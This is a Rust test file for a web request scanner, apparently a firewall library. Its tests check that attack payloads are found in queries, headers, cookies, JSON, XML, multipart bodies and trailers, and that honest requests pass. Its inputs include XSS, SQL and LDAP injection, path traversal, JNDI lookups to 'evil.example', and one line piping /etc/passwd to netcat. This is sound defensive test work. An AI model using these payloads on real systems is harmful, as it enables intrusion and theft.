//! Whole requests: where values are found, and what the head and the framing say.

use portcullis_payload::arguments::{self, Request};
use portcullis_payload::{Exception, Limit, Place, Scanner, Scratch, Settings, Verdict};

type Headers<'a> = &'a [(&'a str, &'a str)];

#[allow(clippy::unwrap_used)]
fn inspected(method: &str, target: &str, headers: Headers<'_>, body: &str) -> Verdict {
    let scanner = Scanner::new().unwrap();
    let (settings, mut scratch) = (Settings::default(), Scratch::default());
    let headers: Vec<(&[u8], &[u8])> = headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())).collect();
    let mut inspection = scanner.begin(&settings, &mut scratch);
    let request =
        Request { method: method.as_bytes(), target: target.as_bytes(), headers: &headers, body: body.as_bytes() };
    arguments::inspect(&request, &mut inspection);
    inspection.finish()
}

fn places(verdict: &Verdict) -> Vec<(Place, String)> {
    verdict.findings().iter().map(|f| (f.place, String::from_utf8_lossy(&f.name).into_owned())).collect()
}

const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");
const JSON: (&str, &str) = ("content-type", "application/json");
const PARTS: (&str, &str) = ("content-type", "multipart/form-data; boundary=b");
const XML: (&str, &str) = ("content-type", "application/xml");

#[test]
fn an_attack_is_found_wherever_it_stands() {
    let script = "<script>alert(1)</script>";
    let cases: &[(&str, &str, Headers<'_>, String, Place, &str)] = &[
        ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], String::new(), Place::Query, "q"),
        ("GET", "/a/%3Cscript%3Ealert(1)", &[], String::new(), Place::Path, ""),
        ("GET", "/?%3Cscript%3E=1", &[], String::new(), Place::Name, "<script>"),
        ("GET", "/", &[("cookie", "a=b; c=%3Cscript%3E")], String::new(), Place::Cookie, "c"),
        ("GET", "/", &[("x-note", "<script>")], String::new(), Place::Header, "x-note"),
        ("GET", "/", &[("user-agent", "<script>")], String::new(), Place::UserAgent, "user-agent"),
        ("GET", "/", &[("referer", "http://a/?b=%3Cscript%3E")], String::new(), Place::Referer, "referer"),
        ("POST", "/", &[FORM], format!("a=1&b={script}"), Place::Form, "b"),
        ("POST", "/", &[JSON], format!("{{\"a\":[1,{{\"b\":\"{script}\"}}]}}"), Place::Json, "b"),
        ("POST", "/", &[JSON], "{\"a\":\"\\u003cscript\\u003e\"}".to_owned(), Place::Json, "a"),
        ("POST", "/", &[JSON], format!("{{\"{script}\":1}}"), Place::Name, script),
        ("POST", "/", &[XML], format!("<x><a c='d'>1<b/><![CDATA[{script}]]></a></x>"), Place::Xml, "a"),
        ("POST", "/", &[XML], format!("<x><a>1</a><![CDATA[{script}]]></x>"), Place::Xml, "x"),
        ("POST", "/", &[XML], format!("<x><!-- {script} --></x>"), Place::Xml, ""),
        ("POST", "/", &[XML], "<a c='d' b = \"&lt;script&gt;\"/>".to_owned(), Place::Xml, "b"),
        (
            "POST",
            "/",
            &[PARTS],
            format!("--b\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\n{script}\r\n--b--\r\n"),
            Place::Multipart,
            "c",
        ),
        ("POST", "/", &[("content-type", "text/plain")], format!("see {script}"), Place::Text, ""),
    ];
    for (method, target, headers, body, place, name) in cases {
        let verdict = inspected(method, target, headers, body);
        assert!(places(&verdict).contains(&(*place, (*name).to_owned())), "{target} {body}: {:?}", places(&verdict));
        assert!(verdict.worst().is_some_and(|(_, score)| score >= 5), "{target} {body}");
    }
}

#[test]
fn the_head_and_the_framing_are_judged() {
    let cases: &[(&str, &str, &str, Headers<'_>, &str)] = &[
        ("protocol-method", "|GET", "/", &[], ""),
        ("protocol-unusual-method", "TRACE", "/", &[], ""),
        ("protocol-fragment", "GET", "/a#b", &[], ""),
        ("protocol-body-without-type", "POST", "/", &[], "abc"),
        ("protocol-content-type", "POST", "/", &[("content-type", "nonsense")], "abc"),
        ("protocol-content-type", "POST", "/", &[("content-type", "multipart/; boundary=x")], "abc"),
        ("protocol-charset", "POST", "/", &[("content-type", "text/plain; charset=utf-7")], "abc"),
        ("protocol-second-content-type", "POST", "/", &[("content-type", "text/plain; x=\"application/xml\"")], "abc"),
        ("protocol-empty-host", "GET", "/", &[("host", "")], ""),
        ("protocol-content-length", "POST", "/", &[FORM, ("content-length", "1, 2")], "a=b"),
        ("protocol-ranges", "GET", "/", &[("range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7")], ""),
        ("protocol-stacked-encoding", "POST", "/", &[FORM, ("content-encoding", "gzip, gzip")], "a=b"),
        ("protocol-method-override", "POST", "/", &[FORM, ("x-http-method-override", "DELETE")], "a=b"),
        ("protocol-old-cookie", "GET", "/", &[("cookie", "$Version=1; a=\"b\"")], ""),
        ("protocol-forbidden-header", "GET", "/", &[("proxy", "http://a")], ""),
        ("protocol-forbidden-header", "GET", "/", &[("x-middleware-subrequest", "middleware")], ""),
        ("protocol-charset", "GET", "/", &[("accept", "text/html;charset=\"cp037\", */*")], ""),
        ("protocol-accept-encoding", "GET", "/", &[("accept-encoding", &"gzip, ".repeat(20))], ""),
        ("protocol-form-in-get", "GET", "/", &[FORM], "a=b"),
        (
            "protocol-part-header",
            "POST",
            "/",
            &[PARTS],
            "--b\r\nContent-Disposition: form-data; name=\"c\"\r\nContent-Encoding: gzip\r\n\r\nd\r\n--b--",
        ),
        (
            "protocol-part-encoding",
            "POST",
            "/",
            &[PARTS],
            "--b\r\nContent-Disposition: form-data; name=\"c\"\r\nContent-Transfer-Encoding: base64\r\n\r\nd\r\n--b--",
        ),
        (
            "protocol-odd-file-name",
            "POST",
            "/",
            &[PARTS],
            "--b\r\nContent-Disposition: form-data; name=\"c\"; filename=\"a;b.txt\"\r\n\r\nd\r\n--b--",
        ),
        (
            "upload-runnable-file",
            "POST",
            "/",
            &[PARTS],
            "--b\r\nContent-Disposition: form-data; name=\"c\"; filename=\"a.php.jpg\"\r\n\r\nd\r\n--b--",
        ),
        ("xml-doctype-in-body", "POST", "/", &[XML], "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>"),
        ("nosqli-comparison", "POST", "/", &[JSON], "{\"user\":{\"$ne\":null}}"),
        ("protocol-nul-byte", "GET", "/?a=b%00c", &[], ""),
        ("protocol-encoding-depth", "GET", "/?a=%252525252541", &[], ""),
        ("protocol-encoding-unfinished", "GET", "/?a=%25252525252541", &[], ""),
        ("protocol-encoding-unfinished", "GET", "/?a=%252525252525253Cscript%252525252525253E", &[], ""),
        ("protocol-ranges", "PUT", "/", &[FORM, ("content-range", "bytes 0-1/x")], "a=b"),
        ("protocol-ranges", "GET", "/", &[("content-range", "bytes 0-1/2")], ""),
        ("protocol-body-without-type", "POST", "/", &[], "a=1&b=2"),
        ("protocol-unusual-method", "SUBSCRIBE", "/", &[], ""),
        (
            "protocol-second-content-type",
            "POST",
            "/",
            &[("content-type", "multipart/form-data; boundary=b; type=\"text/xml\"")],
            "abc",
        ),
        (
            "protocol-part-header",
            "POST",
            "/",
            &[PARTS],
            "--b\r\nContent-Disposition: form-data; name=\"c\"\r\nX A: 1\r\n\r\nd\r\n--b--",
        ),
        (
            "protocol-odd-file-name",
            "POST",
            "/",
            &[PARTS],
            "--b\r\nContent-Disposition: form-data; name=\"c\"; filename=\"'a.txt\"\r\n\r\nd\r\n--b--",
        ),
        ("traversal-overlong-utf8", "GET", "/?a=%c0%ae", &[], ""),
    ];
    for (rule, method, target, headers, body) in cases {
        let verdict = inspected(method, target, headers, body);
        let found: Vec<_> = verdict.findings().iter().map(|f| f.by.as_str()).collect();
        assert!(found.contains(rule), "{rule}: {method} {target} {headers:?} {body:?} gives {found:?}");
    }
}

#[test]
fn honest_requests_have_no_findings() {
    let browser = (
        "user-agent",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    );
    let cases: &[(&str, &str, Headers<'_>, &str)] = &[
        ("GET", "/api/v1/orders?id=1234&sort=created&page=2", &[browser, ("accept", "*/*")], ""),
        (
            "PUT",
            "/api/v1/users/42",
            &[browser, JSON],
            "{\"name\":\"O'Brien & Sons\",\"note\":\"50% off -- today only\"}",
        ),
        ("DELETE", "/api/v1/users/42", &[browser], ""),
        ("POST", "/login", &[browser, FORM], "user=alice%40example.com&remember=1"),
        (
            "POST",
            "/files",
            &[browser, PARTS],
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"report.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF\r\n--b--",
        ),
        (
            "POST",
            "/soap",
            &[browser, XML],
            "<?xml version=\"1.0\"?><order id=\"7\"><name>Tea &amp; Cake</name></order>",
        ),
        (
            "GET",
            "/",
            &[
                browser,
                ("cookie", "session=abc; PHPSESSID=9d1b; theme=dark"),
                ("referer", "https://example.com/a?b=c&d=e"),
            ],
            "",
        ),
        // Files of people, from libraries that say more than browsers.
        (
            "POST",
            "/files",
            &[browser, PARTS],
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"Chris' O'Brien.png\"\r\nContent-Type: image/png\r\n\
             Content-Transfer-Encoding: 7bit\r\nContent-Language: en\r\nX-Part: 1\r\n\r\nPNG\r\n--b--",
        ),
        // Uploads that can be resumed, and bodies that show what they are.
        ("PUT", "/uploads/7", &[browser, ("content-type", "video/mp4"), ("content-range", "bytes 0-3/2000")], "abcd"),
        ("PUT", "/uploads/7", &[browser, ("content-type", "video/mp4"), ("content-range", "bytes 0-3/*")], "abcd"),
        ("PUT", "/uploads/7", &[browser, ("content-range", "bytes */2000")], ""),
        ("POST", "/events", &[browser], "{\"temperature\": 21.5}"),
        ("PUT", "/blobs/7", &[browser], "\u{1}\0\u{2}abc"),
        ("PROPFIND", "/calendar", &[browser, XML, ("depth", "1")], "<propfind xmlns=\"DAV:\"><allprop/></propfind>"),
        ("POST", "/find", &[browser, JSON], "{\"filter\":{\"age\":{\"$gt\":21}}}"),
    ];
    for (method, target, headers, body) in cases {
        let verdict = inspected(method, target, headers, body);
        assert!(verdict.is_clean(), "{method} {target}: {:?}", verdict.findings());
    }
}

#[test]
fn a_family_that_is_off_is_not_judged() {
    let scanner = Scanner::new().unwrap();
    let settings = Settings { without: vec![portcullis_payload::Family::Xss], ..Settings::default() };
    let mut scratch = Scratch::default();
    let mut inspection = scanner.begin(&settings, &mut scratch);
    let request = Request { method: b"GET", target: b"/?q=%3Cscript%3Ealert(1)", headers: &[], body: b"" };
    arguments::inspect(&request, &mut inspection);
    assert_eq!(inspection.finish().score(portcullis_payload::Family::Xss), 0);
}

#[test]
fn many_harmless_values_never_add_up() {
    let items: Vec<String> = (0..200).map(|i| format!("\"see http://localhost:{i} for more of it\"")).collect();
    let verdict = inspected("POST", "/", &[JSON], &format!("[{}]", items.join(",")));
    assert!(verdict.worst().is_none_or(|(_, score)| score < 5), "{:?}", verdict.worst());
}

fn form(fields: usize, last: &str) -> String {
    "a=&".repeat(fields) + last
}

fn multipart(parts: usize, end: &str) -> String {
    "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n".repeat(parts) + end
}

#[test]
fn what_is_not_read_whole_is_told() {
    // Names are values as well.
    let array = |strings: usize| format!("[{}\"a\"]", "\"a\",".repeat(strings - 1));
    for (headers, body, limit) in [
        // The path and the header are two more.
        (JSON, array(arguments::MOST - 2), None),
        (JSON, array(arguments::MOST - 1), Some(Limit::Values)),
        (FORM, form(9_998, "html=1"), None),
        (FORM, form(9_999, "html=1"), Some(Limit::Values)),
        (PARTS, multipart(arguments::MOST_PARTS, "--b--\r\n"), None),
        (PARTS, multipart(arguments::MOST_PARTS + 1, "--b--\r\n"), Some(Limit::Parts)),
        (PARTS, multipart(arguments::MOST_PARTS + 1, ""), Some(Limit::Parts)),
        // Behind the last delimiter, too.
        (PARTS, multipart(arguments::MOST_PARTS, "--b--\r\n") + &multipart(1, ""), Some(Limit::Parts)),
    ] {
        let verdict = inspected("POST", "/", &[headers], &body);
        assert_eq!(verdict.limit(), limit, "{} bytes of {headers:?}", body.len());
        assert!(verdict.findings().is_empty());
    }
}

#[test]
fn no_exception_takes_what_is_not_read() {
    let settings = Settings {
        threshold: 100,
        without: portcullis_payload::Family::ALL.to_vec(),
        except: vec![Exception { place: None, name: Some(Vec::new()), is_prefix: true, families: Vec::new() }],
        ..Settings::default()
    };
    let (scanner, mut scratch) = (Scanner::new().unwrap(), Scratch::default());
    for (kind, body) in [(FORM, form(20_000, "q=' or '1'='1")), (PARTS, multipart(300, "--b--"))] {
        let headers: &[(&[u8], &[u8])] = &[(kind.0.as_bytes(), kind.1.as_bytes())];
        let request = Request { method: b"POST", target: b"/", headers, body: body.as_bytes() };
        let mut inspection = scanner.begin(&settings, &mut scratch);
        arguments::inspect(&request, &mut inspection);
        assert!(inspection.finish().limit().is_some(), "{kind:?}");
    }
}

#[test]
fn a_crowd_of_small_signs_hides_no_attack() {
    let small = "p=open+http://localhost:3000+in+your+browser+now&";
    for crowd in [31, 32, 33, 200] {
        let verdict = inspected("POST", "/", &[FORM], &(small.repeat(crowd) + "q=' or '1'='1"));
        let decisive: Vec<_> = verdict.decisive(5).into_iter().map(|f| (f.by.family(), f.name.clone())).collect();
        assert!(decisive.contains(&(portcullis_payload::Family::Sqli, b"q".to_vec())), "{crowd}: {decisive:?}");
        assert!(decisive.iter().all(|(family, _)| *family == portcullis_payload::Family::Sqli), "{decisive:?}");
    }
}

#[test]
fn only_what_makes_it_an_attack_is_decisive() {
    let decisive = |body: &str| -> Vec<String> {
        let verdict = inspected("POST", "/", &[FORM], body);
        let shown = |f: &portcullis_payload::Finding| {
            format!("{} {}", f.by.family().as_str(), String::from_utf8_lossy(&f.name))
        };
        let mut shown: Vec<String> = verdict.decisive(5).into_iter().map(shown).collect();
        shown.dedup();
        shown
    };
    assert_eq!(decisive("a=open+http://localhost:3000+in+your+browser+now"), Vec::<String>::new());
    assert_eq!(decisive("a=<script>&b=open+http://localhost:3000+in+your+browser+now"), ["xss a"]);
    assert_eq!(decisive("a=<script>&b=1' or '1'='1&c=<script>").len(), 3);
}

#[test]
fn the_heaviest_finding_of_each_family_is_kept() {
    let weak: String = (0..100).map(|i| format!("a{i}=%23%7Bname%7D&")).collect();
    for (attack, family) in [
        ("q=1'+union+select+1,2+from+users--+-", portcullis_payload::Family::Sqli),
        ("q=<script>alert(1)</script>", portcullis_payload::Family::Xss),
        ("q=../../../a/b", portcullis_payload::Family::Traversal),
    ] {
        let verdict = inspected("GET", &format!("/?{weak}{attack}"), &[], "");
        assert_eq!(verdict.worst().map(|(worst, _)| worst), Some(family), "{attack}");
        let heaviest = verdict.findings().iter().filter(|f| f.by.family() == family).map(|f| f.weight).max();
        assert_eq!(heaviest, Some(5), "{attack}");
        assert!(verdict.findings().len() < 64);
    }
}

#[test]
fn every_header_that_is_not_in_its_form_is_judged() {
    let names = [
        "authorization",
        "proxy-authorization",
        "dpop",
        "host",
        ":authority",
        "connection",
        "accept-encoding",
        "cache-control",
        "if-none-match",
        "if-match",
        "if-modified-since",
        "if-unmodified-since",
        "date",
        "traceparent",
        "tracestate",
        "sec-ch-ua",
        "sec-ch-ua-mobile",
        "sec-ch-ua-platform",
        "sec-fetch-mode",
        "sec-fetch-site",
        "sec-fetch-dest",
        "sec-fetch-user",
        "sec-websocket-key",
        "upgrade-insecure-requests",
        "x-request-id",
        "x-forwarded-for",
        "x-forwarded-proto",
        "accept",
        "accept-language",
        "origin",
        "x-api-key",
        "content-length",
    ];
    for name in names {
        for attack in
            ["${jndi:ldap://evil.example/a}", "1' or '1'='1", "<script>alert(1)</script>", "../../../../etc/passwd"]
        {
            for value in [attack.to_owned(), format!("Bearer {attack}"), format!("\"{attack}\"")] {
                // A quoted quote has a string before it; a host is told by its port.
                if value.starts_with("\"1'") {
                    continue;
                }
                let verdict = inspected("GET", "/", &[(name, &value)], "");
                assert!(verdict.worst().is_some_and(|(_, score)| score >= 5), "{name}: {value}");
            }
        }
    }
}

#[test]
fn a_user_name_is_judged_and_a_password_never() {
    // `'or 1=1--:x`, `${jndi:ldap://a}:x` cut at its first colon, and the like.
    let basic = |text: &str| format!("Basic {}", base64(text.as_bytes()));
    for user in ["' or 1=1--", "<script>alert(1)</script>", "1 union select password from users", "*)(uid=*))(|(uid=*"]
    {
        let value = basic(&format!("{user}:secret"));
        let verdict = inspected("GET", "/", &[("authorization", &value)], "");
        assert!(verdict.worst().is_some_and(|(_, score)| score >= 5), "{user}");
        assert!(verdict.findings().iter().all(|finding| finding.excerpt.is_empty()), "{:?}", verdict.findings());
    }
    for honest in [
        "alice:' or 1=1--",
        "alice:<script>alert(1)</script>",
        "o'brien@example.com:x",
        "dom\\alice:$(id)",
        "alice",
        ":${jndi:ldap://a}",
    ] {
        let verdict = inspected("GET", "/", &[("authorization", &basic(honest))], "");
        assert!(verdict.is_clean(), "{honest}: {:?}", verdict.findings());
    }
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for three in bytes.chunks(3) {
        let bits = three.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for digit in 0..4 {
            let index = usize::try_from(bits >> (18 - 6 * digit) & 63).unwrap_or(0);
            text.push(if digit <= three.len() { char::from(*DIGITS.get(index).unwrap_or(&b'=')) } else { '=' });
        }
    }
    text
}

#[test]
fn what_clients_send_in_headers_has_no_findings() {
    let headers: Headers<'_> = &[
        ("authorization", "Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl--c2lnbmF0dXJl"),
        ("authorization", "Bearer ya29.a0AfH6SMBx-Kd_3~x+y"),
        ("authorization", "Basic YWxpY2U6cyczY3JldA=="),
        (
            "authorization",
            "Digest username=\"Mufasa\", realm=\"http-auth@example.org\", uri=\"/dir/index.html\", algorithm=SHA-256, nonce=\"7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v\", nc=00000001, cnonce=\"f2/wE4q74E6zIJEtWaHKaf5wv/H5QzzpXusqGemxURZJ\", qop=auth, response=\"753927fa0e85d155564e2e272a28d1802ca10daf4496794697cf8db5856cb6c1\", opaque=\"FQhe/qaU925kfnzjCev0ciny7QMkPqMAFRtzCUYo5tdS\"",
        ),
        (
            "authorization",
            "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, SignedHeaders=host;range;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
        ),
        (
            "authorization",
            "OAuth oauth_consumer_key=\"xvz1evFS4wEEPTGEFPHBog\", oauth_nonce=\"kYjzVBB8Y0ZFabxSWbWovY3uYSQ2pTgmZeNu2VS4cg\", oauth_signature=\"tnnArxj06cWHq44gCs1OSKk%2FjLY%3D\", oauth_signature_method=\"HMAC-SHA1\", oauth_timestamp=\"1318622958\", oauth_version=\"1.0\"",
        ),
        (
            "authorization",
            "Hawk id=\"dh37fgj492je\", ts=\"1353832234\", nonce=\"j4h3g2\", ext=\"some-app-ext-data\", mac=\"6R4rV5iE+NPoym+WwjeHzjAGXUtLNIxmo1vpMofpLAE=\"",
        ),
        (
            "authorization",
            "Signature keyId=\"rsa-key-1\",algorithm=\"rsa-sha256\",headers=\"(request-target) host date digest content-length\",signature=\"Base64(RSA-SHA256(signing string))\"",
        ),
        ("authorization", "Token token=\"8f3b5c\""),
        ("authorization", "Bearer 12|mlQ0ZJ5nXkLq8Xz0b1V2c3d4e5f6"),
        ("authorization", "Bearer 110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw"),
        ("authorization", "Bot MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs"),
        ("authorization", "GoogleLogin auth=DQAAAGgA-dk3fA5N"),
        (
            "authorization",
            "SharedAccessSignature sr=https%3a%2f%2fcontoso.servicebus.windows.net%2fq&sig=kPszXZVPaWfF%2bBgKZ0C3rVkZ%2f4%3d&se=1438205742&skn=RootManageSharedAccessKey",
        ),
        ("authorization", "SharedKey myaccount:ctzMq410TV3wS7upTBcunJTDLEJwMAZuFPfr0mrrA08="),
        ("authorization", "key=AAAAZoxyz:APA91bHun4MxP5egoKMwt2KZFBaFUH"),
        ("authorization", "Discogs key=foo123, secret=bar456"),
        ("authorization", "PVEAPIToken=root@pam!monitoring=aaaaaaaa-bbb-cccc-dddd-ef0123456789"),
        (
            "authorization",
            "MediaBrowser Client=\"Jellyfin Web\", Device=\"Firefox\", DeviceId=\"TW96aWxsYS81LjAgKFgxMTsgTGludXgg\", Version=\"10.8.13\", Token=\"e86e2d5c\"",
        ),
        ("authorization", "Snowflake Token=\"ver:1-hint:1836711698-ETMsDgAAAYX\""),
        (
            "authorization",
            "EG1-HMAC-SHA256 client_token=akab-c113ntt0k3n4qtari252bfxxbsl-yvsdj;access_token=akab-acc35t0k3nodujqunph3w7hzp7-gtm6ij;timestamp=20140321T19:34:21+0000;nonce=nonce-xx-xxxx-xxxx-xxxx-xxxxxxxxxxxx;signature=tL+y4hxyHxgWVD30X3pWnGKHcPzmrIF+LThiAOhMxYU=",
        ),
        ("authorization", "GNAP OS9M2PMHKUR64TB8N6BW7OZB8CDFONP219RP1LT0"),
        ("authorization", "HMAC 4d53bce03ec34c0a911182d4c228ee6c:Kq/PxKP+:2d57d93bad914bb0:1718000000"),
        ("authorization", "Token token=\"8f3b5c\", email=\"alice@shop.example\""),
        ("authorization", "acs-hmac-sha256 Credential=LTAI,SignedHeaders=host;x-acs-date,Signature=06563a9e1b43f5df"),
        ("authorization", "OSS LTAI4:BJRH8rYmdGkGvXtVmEEm1mQ2aBY="),
        ("authorization", "WSSE profile=\"UsernameToken\""),
        ("authorization", "{\"token\": \"abc\"}"),
        ("authorization", "Bearer null"),
        ("authorization", "Bearer undefined"),
        ("authorization", "Bearer [object Object]"),
        ("authorization", "Bearer <token>"),
        ("authorization", "Bearer YOUR_TOKEN"),
        ("authorization", "Token 8f3b5c"),
        ("authorization", "8f3b5c-key"),
        ("proxy-authorization", "Basic YWxpY2U6cyczY3JldA=="),
        ("authorization", "Negotiate YIIJvwYGKwYBBQUCoIIJszCCCa+gJDAi"),
        (
            "dpop",
            "eyJ0eXAiOiJkcG9wK2p3dCJ9.eyJqdGkiOiItQndDM0VTYzZhY2MybFRjIn0.2-GxA6T8lP4vfrg8v-FdWP0A0zdrj8igiMLvqRMUvwnQg",
        ),
        ("cache-control", "max-age=0"),
        ("cache-control", "no-cache, no-store, must-revalidate"),
        ("accept-encoding", "gzip;q=1.0, deflate;q=0.6, identity;q=0.3, *;q=0"),
        ("connection", "Upgrade, HTTP2-Settings"),
        ("connection", "keep-alive, TE"),
        ("te", "gzip;q=0.5, trailers"),
        ("if-none-match", "W/\"67ab43\", \"54ed21\""),
        ("if-none-match", "\"abc;gzip\""),
        ("if-none-match", "\"1718000000|512\""),
        ("if-none-match", "\"33a64df551425fcc55e4d42a148795d9f25f89d4--gzip\""),
        ("if-match", "*"),
        ("if-modified-since", "Sunday, 06-Nov-94 08:49:37 GMT"),
        ("if-modified-since", "Sun Nov  6 08:49:37 1994"),
        ("date", "Sun, 06 Nov 1994 08:49:37 GMT"),
        ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
        ("tracestate", "dd=s:2;o:rum;p:00f067aa0ba902b7;t.dm:-4;t.usr.id:baz64"),
        ("tracestate", "fc3a2b1-1234abcd@dt=fw4;5;8a2b3c4d;0;0;0;0;1a2b;2h01;3h8a2b"),
        ("tracestate", "congo=ucfJifl5GOE,rojo=00f067aa0ba902b7"),
        ("sec-ch-ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
        ("sec-ch-ua", "\" Not A;Brand\";v=\"99\", \"Chromium\";v=\"96\", \"Microsoft Edge\";v=\"96\""),
        ("sec-ch-ua", "\"(Not(A:Brand\";v=\"8\", \"Chromium\";v=\"99\""),
        ("sec-ch-ua", "\"Not)A;Brand\";v=\"8\", \"Chromium\";v=\"138\", \"Brave\";v=\"138\""),
        ("sec-ch-ua", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"HeadlessChrome\";v=\"126\""),
        ("sec-ch-ua", "\"Not.A/Brand\";v=\"8\", \"Chromium\";v=\"114\", \"Opera GX\";v=\"100\""),
        ("sec-ch-ua", "\"Not;A=Brand\";v=\"99\", \"Not?A_Brand\";v=\"24\", \"Not_A Brand\";v=\"8\""),
        ("sec-ch-ua-mobile", "?0"),
        ("sec-ch-ua-platform", "\"Windows\""),
        ("sec-fetch-user", "?1"),
        ("sec-fetch-dest", "empty"),
        ("sec-websocket-key", "/GhlIHNhbXBsZSBub25jZQ=="),
        ("upgrade-insecure-requests", "1"),
        ("content-length", "12"),
        ("host", "[::1]:8080"),
        (":authority", "localhost:8080"),
        ("x-forwarded-for", "2001:db8::1, 192.0.2.7"),
    ];
    let found = |header: &(&str, &str)| {
        let verdict = inspected("GET", "/", &[*header], "");
        let rules: Vec<&str> = verdict.findings().iter().map(|finding| finding.by.as_str()).collect();
        (!rules.is_empty()).then(|| format!("{header:?}: {rules:?}"))
    };
    let mistakes: Vec<String> = headers.iter().filter_map(found).collect();
    assert!(mistakes.is_empty(), "{}", mistakes.join("\n"));
}

#[test]
fn names_in_xml_that_are_none_are_judged() {
    for attack in [
        "<a><${jndi:ldap://evil.example/a}/></a>",
        "<a><b onx='1' <script>alert(1)</script></b></a>",
        "<a><b x=';cat /etc/passwd|nc evil 1' ';cat /etc/passwd;'='1'/></a>",
        "<a b=<script>alert(1)</script>>",
        "<a><../../../../etc/passwd/></a>",
    ] {
        let verdict = inspected("POST", "/", &[XML], attack);
        assert!(verdict.worst().is_some_and(|(_, score)| score >= 5), "{attack}: {:?}", verdict.findings());
    }
    for honest in [
        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><m:Get-Price.v1 id = '7' /></soap:Body></soap:Envelope>",
        "<Stra\u{df}e\n  nummer=\"7\"\n/>",
        "<select><union/><from>users</from></select>",
        "<a><br/><script>go</script></a>",
    ] {
        let verdict = inspected("POST", "/", &[XML], honest);
        assert!(verdict.is_clean(), "{honest}: {:?}", verdict.findings());
    }
}

#[test]
fn trailers_are_judged_as_headers_are() {
    let scanner = Scanner::new().unwrap();
    let (settings, mut scratch) = (Settings::default(), Scratch::default());
    let head = Request { method: b"POST", target: b"/", headers: &[], body: b"" };
    let mut judged = |trailers: &[(&[u8], &[u8])]| {
        let mut inspection = scanner.begin(&settings, &mut scratch);
        arguments::inspect_trailers(&head, trailers, &mut inspection);
        inspection.is_attack()
    };
    assert!(judged(&[(b"x-note", b"${jndi:ldap://evil.example/a}")]));
    assert!(judged(&[(b"cookie", b"a=<script>alert(1)</script>")]));
    assert!(judged(&[(b"x-original-url", b"/admin")]));
    assert!(!judged(&[(b"x-checksum", b"1"), (b"grpc-status", b"0"), (b"server-timing", b"db;dur=53.2")]));
    assert!(!judged(&[]));
}
